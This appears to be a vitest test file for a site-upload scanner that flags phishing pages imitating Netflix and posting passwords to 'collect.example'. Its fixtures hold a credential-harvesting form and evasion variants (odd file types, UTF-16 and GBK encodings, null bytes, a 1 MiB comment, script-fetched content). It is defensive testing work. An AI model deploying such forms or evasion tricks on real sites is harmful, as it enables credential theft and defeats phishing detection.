/** The same imitation where a check might not look: other types, encodings, sizes, and text that a script writes (PUB-37). */
import { expect, test } from 'vitest'
import { checkVersion } from './check-version.ts'

const form =
  '<title>Netflix</title><h1>Netflix</h1><form action="https://collect.example/in" method="post"><input type="password" name="p"></form>'
const harmless = '<!doctype html><title>Notes</title><h1>Notes</h1>'
const writes =
  '<!doctype html><div id="page"></div><script>fetch(page.dataset.from).then((r) => r.text()).then((t) => page.innerHTML = t)</script>'
const mebibyte = 1_048_576

type Bytes = string | Uint8Array

const bytesOf = (given: Bytes): Uint8Array =>
  typeof given === 'string' ? new TextEncoder().encode(given) : given
const utf16 = (text: string, ...mark: number[]): Uint8Array =>
  Buffer.concat([Buffer.from(mark), Buffer.from(text, 'utf16le')])
const bigEndian = (text: string, ...mark: number[]): Uint8Array =>
  Buffer.concat([Buffer.from(mark), Buffer.from(text, 'utf16le').swap16()])

/** What is found in a version of these files. */
function foundIn(files: Record<string, Bytes>) {
  const stored = new Map(Object.entries(files).map(([path, given]) => [path, bytesOf(given)]))
  const version = [...stored].map(([path, { length: size }]) => ({
    path,
    sha256: path,
    size,
  }))
  const read = async (path: string) => new Uint8Array(stored.get(path) ?? [])
  return checkVersion({ read }, version, 'ada')
}
const kindsIn = async (files: Record<string, Bytes>) =>
  (await foundIn(files)).map(({ kind }) => kind)

test.each([
  ['login.shtml', form],
  ['login.xht', form],
  ['login.xml', `<html xmlns="http://www.w3.org/1999/xhtml">${form}</html>`],
  ['login.rss', `<html xmlns="http://www.w3.org/1999/xhtml">${form}</html>`],
  ['login.xsl', form],
])('%s is looked at, since its type makes it a page: threat T98 [PUB-37]', async (path, text) => {
  expect(await foundIn({ 'index.html': harmless, [path]: text })).toEqual([
    { kind: 'credentials', path },
  ])
})

test.each([
  ['with a mark of UTF-16', utf16(form, 0xff, 0xfe)],
  ['with a mark of UTF-16, the large end first', bigEndian(form, 0xfe, 0xff)],
  ['in UTF-16 without a mark', utf16(form)],
  ['with a mark of UTF-8', Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(form)])],
  ['with zeros between its letters', form.replaceAll('Netflix', 'Net\0flix')],
])('a page %s is read as a browser does: threat T98 [PUB-37]', async (_how, page) => {
  expect(await kindsIn({ 'index.html': page })).toEqual(['credentials'])
})

test('a page in the encoding that its meta names is read in it, and as the header would have it: threat T98 [PUB-37]', async () => {
  // The bank's name in GBK, where no letter of it is plain.
  const bank = Buffer.from([0xd6, 0xa7, 0xb8, 0xb6, 0xb1, 0xa6])
  const rest = form.replaceAll('Netflix', '')
  const gbk = Buffer.concat([Buffer.from('<meta charset="gbk"><h1>'), bank, Buffer.from(rest)])
  expect(await kindsIn({ 'index.html': gbk })).toEqual(['credentials'])
  const feigned = `<meta charset="iso-2022-jp">\u001b$B${form}`
  const turned = Buffer.concat([Buffer.from(feigned), Buffer.from([0xff])])
  expect(await kindsIn({ 'index.html': turned })).toEqual(['credentials'])
  const unknown = Buffer.concat([Buffer.from(`<meta charset="none">${form}`), Buffer.from([0xff])])
  expect(await kindsIn({ 'index.html': unknown })).toEqual(['credentials'])
})

test.each(['page.txt', 'page.json', 'page.css', 'page.png', 'page', 'page.bin', 'page.tsx'])(
  'text in %s is looked at where a script may write it: threat T98 [PUB-37]',
  async (path) => {
    expect(await kindsIn({ 'index.html': writes, [path]: form })).toEqual(['credentials'])
    expect(await kindsIn({ 'index.html': harmless, [path]: form })).toEqual([])
  },
)

test('a picture is no text, and is not looked at', async () => {
  const picture = Buffer.concat([Buffer.from('\x89PNG\r\n\x1a\n\0\0\0\rIHDR'), Buffer.from(form)])
  expect(await kindsIn({ 'index.html': writes, 'page.png': picture })).toEqual([])
})

test('a page behind a comment of 1 MiB is looked at whole: threat T98 [PUB-37]', async () => {
  const hidden = `<!--${'a '.repeat(mebibyte / 2)}-->${form}`
  expect(await kindsIn({ 'index.html': hidden })).toEqual(['credentials'])
})

test.each(['index.html', 'words.csv'])(
  'what was not looked at whole is held, and %s is named: threat T98 [PUB-37]',
  async (path) => {
    const large = 'word,'.repeat((5 * mebibyte) / 5)
    const files = { 'a.js': large, 'index.html': harmless, [path]: large }
    const found = await foundIn({ ...files, 'z.css': 'p { color: red }' })
    expect(found).toEqual([{ kind: 'notWhole', path }])
    expect(await foundIn({ 'a.js': large, 'index.html': harmless })).toEqual([])
  },
  30_000,
)
